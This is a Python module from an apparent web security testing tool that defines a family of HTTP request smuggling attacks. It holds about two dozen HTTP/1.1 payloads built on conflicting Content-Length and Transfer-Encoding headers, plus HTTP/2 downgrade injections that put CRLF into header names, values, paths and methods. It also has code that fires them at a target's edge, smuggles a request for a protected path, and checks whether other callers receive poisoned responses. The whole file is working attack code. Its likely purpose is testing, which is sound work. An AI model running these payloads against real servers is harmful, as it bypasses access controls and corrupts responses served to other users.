"""Request smuggling: two servers in a row read a request's length differently, and one finds a second in it."""

import uuid
from dataclasses import replace
from typing import Final

from pillion.attack import http2, wire
from pillion.attack.likeness import Likeness, likeness
from pillion.attack.outcome import Attack, Family, Outcome, held, through
from pillion.attack.target import Target
from pillion.attack.wire import Answer

_LENGTH: Final = "RFC 9112, section 6.3; CWE-444"
_CODING: Final = "RFC 9112, section 6.1; CWE-444"
_CHUNKS: Final = "RFC 9112, section 7.1; CVE-2025-55315"
_LINES: Final = "RFC 9112, section 5.2; CWE-444"
_DOWN: Final = "RFC 9113, section 8.2.1; CVE-2021-21295"
_VICTIMS: Final = 3
_PATIENCE_SECONDS: Final = 0.6
_DOWN_SECONDS: Final = 0.4

# What follows the head's first lines. INNER is the request that is smuggled, LENGTH and HEX its length (HEX2: and
# two more), ALL the body's.
_ONE: Final[dict[str, tuple[str, str]]] = {
    "CL.TE": (_LENGTH, "Content-Length: ALL\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nINNER"),
    "TE.CL": (_LENGTH, "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\nHEX\r\nINNER\r\n0\r\n\r\n"),
    "two lengths": (_LENGTH, "Content-Length: 0\r\nContent-Length: LENGTH\r\n\r\nINNER"),
    "two lengths, the other way": (_LENGTH, "Content-Length: LENGTH\r\nContent-Length: 0\r\n\r\nINNER"),
    "a list of lengths": (_LENGTH, "Content-Length: LENGTH, 0\r\n\r\nINNER"),
    "a length with a sign": (_LENGTH, "Content-Length: +LENGTH\r\n\r\nINNER"),
    "a length in hexadecimal": (_LENGTH, "Content-Length: 0xHEX\r\n\r\nINNER"),
    "a length with a space within": (_LENGTH, "Content-Length: 0 LENGTH\r\n\r\nINNER"),
    "TE.TE xchunked": (_CODING, "Content-Length: ALL\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nINNER"),
    "TE.TE identity": (
        _CODING,
        "Content-Length: ALL\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\nINNER",
    ),
    "TE.TE twice": (
        _CODING,
        "Content-Length: ALL\r\nTransfer-Encoding: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nINNER",
    ),
    "TE.TE in quotes": (_CODING, 'Content-Length: ALL\r\nTransfer-Encoding: "chunked"\r\n\r\n0\r\n\r\nINNER'),
    "TE.TE with a vertical tab": (
        _CODING,
        "Content-Length: ALL\r\nTransfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\nINNER",
    ),
    "TE with a space before the colon": (
        "RFC 9112, section 5.1; CVE-2019-16276",
        "Content-Length: ALL\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\nINNER",
    ),
    "TE with an underscore": (
        _CODING,
        "Content-Length: ALL\r\nTransfer_Encoding: chunked\r\n\r\n0\r\n\r\nINNER",
    ),
    "TE in a folded line": (
        _LINES,
        "Content-Length: ALL\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\nINNER",
    ),
    "TE behind a folded line": (
        _LINES,
        "Content-Length: ALL\r\nX: 1\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nINNER",
    ),
    "TE behind a bare line feed": (
        "RFC 9112, section 2.2; CWE-444",
        "Content-Length: ALL\r\nX: 1\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nINNER",
    ),
    "TE behind a bare carriage return": (
        "RFC 9112, section 2.2; CWE-444",
        "Content-Length: ALL\r\nX: 1\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nINNER",
    ),
    "a chunk extension with a line feed": (
        _CHUNKS,
        "Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\nHEX5\r\n0\r\n\r\nINNER\r\n0\r\n\r\n",
    ),
    "a chunk size in two numbers": (
        _CHUNKS,
        "Transfer-Encoding: chunked\r\n\r\n0 HEX2\r\n\r\nINNER\r\n0\r\n\r\n",
    ),
    "a chunk size with a prefix": (
        _CHUNKS,
        "Transfer-Encoding: chunked\r\n\r\n0xHEX2\r\n\r\nINNER\r\n0\r\n\r\n",
    ),
}


def _control(target: Target) -> str | None:
    like = likeness(target)
    body = b"0\r\n\r\n"
    answer = wire.request(
        target.edge, "POST", target.places.open.path, "Transfer-Encoding: chunked", body=body
    )
    return (
        None if answer.status is not None and like.open.status else f"a chunked request was answered {answer}"
    )


def _smuggled(name: str, reference: str, rest: str) -> Attack:
    def run(target: Target) -> Outcome:
        like = likeness(target)
        first = wire.head(f"POST {target.places.open.path} HTTP/1.1", f"Host: {target.edge.authority}")[:-2]
        data = first + _filled(rest, _inner(target)).encode("latin-1")
        door = replace(target.edge, patience=_PATIENCE_SECONDS)
        try:
            answers = wire.exchange(door, data, ("POST", "GET", "GET"))
        except TimeoutError:
            answers = [Answer(None)]
        return _judged(target, like, answers)

    return Attack(name, reference, f"POST … {rest.encode('unicode_escape').decode()}", run)


def _inner(target: Target) -> str:
    """Write the request that is smuggled."""
    line = f"GET {target.places.protected.path} HTTP/1.1"
    return wire.head(line, f"Host: {target.edge.authority}", f"X-{uuid.uuid4().hex}: x").decode("latin-1")


def _filled(rest: str, inner: str) -> str:
    filled = rest.replace("INNER", inner)
    for word, more in (("HEX5", 5), ("HEX2", 2), ("HEX", 0)):
        filled = filled.replace(word, f"{len(inner) + more:x}")
    filled = filled.replace("LENGTH", str(len(inner)))
    return filled.replace("ALL", str(len(filled.partition("\r\n\r\n")[2])))


def _judged(target: Target, like: Likeness, answers: list[Answer]) -> Outcome:
    """Look at what came back, and at what others get who ask for the open path right after."""
    said = ", ".join(map(str, answers))
    if any(like.is_protected(answer) for answer in answers):
        return through(f"{said}: the request within was served")
    for _ in range(_VICTIMS):
        victim = wire.request(target.edge, "GET", target.places.open.path)
        if like.is_protected(victim) or victim.status != like.open.status:
            return through(f"{said}; and another caller of {target.places.open.path} got {victim}")
    return held(said)


def _down(name: str, reference: str, *headers: tuple[str, str], path: str = "OPEN", body: str = "") -> Attack:
    """Make the attack that hides a request in HTTP/2, where it cannot end early, to be found in HTTP/1."""

    def run(target: Target) -> Outcome:
        like = likeness(target)
        open_, inner = target.places.open.path, _inner(target)

        def fill(text: str) -> str:
            return text.replace("OPEN", open_).replace("INNER", inner).replace("HOST", target.edge.authority)

        filled = [(fill(key), fill(value)) for key, value in headers]
        data = fill(body).encode("latin-1")
        door = replace(target.edge, patience=_DOWN_SECONDS)
        try:
            answer = http2.ask(door, "POST", fill(path), *filled, body=data)
        except TimeoutError:
            answer = Answer(
                None
            )  # an Envoy that finds a mistake lets the connection linger before it closes it
        return _judged(target, like, [answer])

    return Attack(name, reference, "HTTP/2: " + ascii((path, *headers, body))[1:-1], run)


_END: Final = "\r\n\r\n"
FAMILY: Final = Family(
    "request smuggling",
    _control,
    (
        *(_smuggled(name, reference, rest) for name, (reference, rest) in _ONE.items()),
        _down(
            "H2.TE",
            "RFC 9113, section 8.2.2; CVE-2021-21295",
            ("transfer-encoding", "chunked"),
            body=f"0{_END}INNER",
        ),
        _down("H2.CL", "RFC 9113, section 8.1.1; CVE-2021-21295", ("content-length", "0"), body="INNER"),
        _down("H2: a line end in a value", _DOWN, ("x", f"1\r\ncontent-length: 0{_END}INNER")),
        _down(
            "H2: a line feed in a value",
            _DOWN,
            ("x", "1\ntransfer-encoding: chunked\r\nx: 1"),
            body=f"0{_END}INNER",
        ),
        _down("H2: a line end in a name", _DOWN, (f"x: 1\r\ncontent-length: 0{_END}INNERx", "1")),
        _down("H2: a colon in a name", _DOWN, ("transfer-encoding: chunked\r\nx", "1"), body=f"0{_END}INNER"),
        _down(
            "H2: a line end in the path",
            _DOWN,
            path=f"OPEN HTTP/1.1\r\nhost: HOST\r\ncontent-length: 0{_END}INNER",
        ),
        _down(
            "H2: a space in the path",
            _DOWN,
            path="OPEN HTTP/1.1\r\nhost: HOST\r\ntransfer-encoding: chunked\r\nx: x",
            body=f"0{_END}INNER",
        ),
        _down(
            "H2: a line end in the method",
            _DOWN,
            (":method", f"GET OPEN HTTP/1.1\r\nhost: HOST\r\ncontent-length: 0{_END}INNERPOST"),
        ),
        _down(
            "H2: a line end in the authority", _DOWN, (":authority", f"HOST\r\ncontent-length: 0{_END}INNER")
        ),
        _down(
            "H2: connection headers",
            "RFC 9113, section 8.2.2",
            ("connection", "transfer-encoding"),
            ("transfer-encoding", "chunked"),
            body=f"0{_END}INNER",
        ),
        _down(
            "H2: two lengths",
            "RFC 9113, section 8.1.1",
            ("content-length", "0"),
            ("content-length", "9"),
            body="INNER",
        ),
    ),
)
